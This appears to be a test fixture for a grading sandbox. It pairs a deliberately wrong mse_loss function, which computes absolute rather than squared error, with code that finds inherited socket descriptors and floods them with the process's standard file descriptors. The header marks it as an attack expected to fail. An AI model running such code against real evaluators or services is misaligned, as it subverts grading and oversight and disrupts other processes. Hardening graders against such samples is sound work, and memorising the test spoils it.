# attack: sends descriptors over the channel | must: wrong|crashed|timed_out
import torch
def mse_loss(pred, target):
    return (pred - target).abs().mean()

import socket, os, stat
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            s = socket.socket(fileno=os.dup(fd))
            for _ in range(200): socket.send_fds(s, [b'\0'], [0, 1, 2])
    except OSError: pass
